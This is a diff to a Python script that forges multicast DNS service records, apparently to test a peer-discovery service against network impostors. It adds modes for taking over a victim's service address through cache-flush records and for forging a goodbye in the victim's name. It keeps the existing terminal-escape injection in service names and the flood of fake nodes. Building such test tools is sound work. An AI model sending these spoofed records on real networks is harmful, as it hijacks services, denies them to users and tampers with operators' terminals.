@@ -1,9 +1,12 @@
 """Says what an attacker on the network would say, as raw records, and goes.
 
     impostor.py OWN_ADDRESS VICTIM_ID [HOW_MANY_NODES]
+    impostor.py OWN_ADDRESS VICTIM_ID takeover ADDRESS
+    impostor.py OWN_ADDRESS VICTIM_ID goodbye
 
-The victim's service with another host's address, replacing what is known (cache-flush); a goodbye in the
-victim's name; names and texts that are made to reach a terminal; more nodes than can be listed.
+The victim's service with another address, replacing what is known (cache-flush); a goodbye in the
+victim's name; names and texts that are made to reach a terminal; more nodes than can be listed. Or one
+of the first two alone.
 """
 
 import socket
@@ -47,10 +50,15 @@ def text(node_id: str) -> list[bytes]:
     return [b"v=1", b"id=" + node_id.encode(), b"h=" + b"a" * 16]
 
 
-def main() -> None:
-    own, victim = sys.argv[1], sys.argv[2]
-    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
+def takeover(victim: str, address: str) -> bytes:
+    return service(victim[:12], text(victim), address, 7717)
+
+
+def goodbye(victim: str) -> bytes:
+    return packet([record(name(*SERVICE), PTR, IN, 0, name(victim[:12], *SERVICE))])
+
+
+def all_of_it(own: str, victim: str, nodes: int) -> list[bytes]:
     evil = "\x1b]0;owned\x07\n\x1b[2J"
     said = [
         service(evil, text("z" * 52), own, 7717),
@@ -59,13 +67,23 @@ def main() -> None:
         service("x" * 12, text("x" * 52), own, 22),
         service("w" * 12, [b"\xff" * 200], own, 7717),
     ]
-    for number in range(int(sys.argv[3]) if len(sys.argv) > 3 else 400):
+    for number in range(nodes):
         label = "q" + "".join(LETTERS[(number >> shift) & 31] for shift in (10, 5, 0)) * 4
         said.append(service(label[:12], text((label * 4)[:52].ljust(52, "q")), own, 7717))
-    said += [
-        service(victim[:12], text(victim), own, 7717),
-        packet([record(name(*SERVICE), PTR, IN, 0, name(victim[:12], *SERVICE))]),
-    ]
+    return [*said, takeover(victim, own), goodbye(victim)]
+
+
+def main() -> None:
+    own, victim, *what = sys.argv[1:]
+    match what:
+        case ["takeover", address]:
+            said = [takeover(victim, address)]
+        case ["goodbye"]:
+            said = [goodbye(victim)]
+        case _:
+            said = all_of_it(own, victim, int(what[0]) if what else 400)
+    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
     is_many = len(said) > 1_000
     for number, datagram in enumerate(said):
         out.sendto(datagram, (GROUP, PORT))
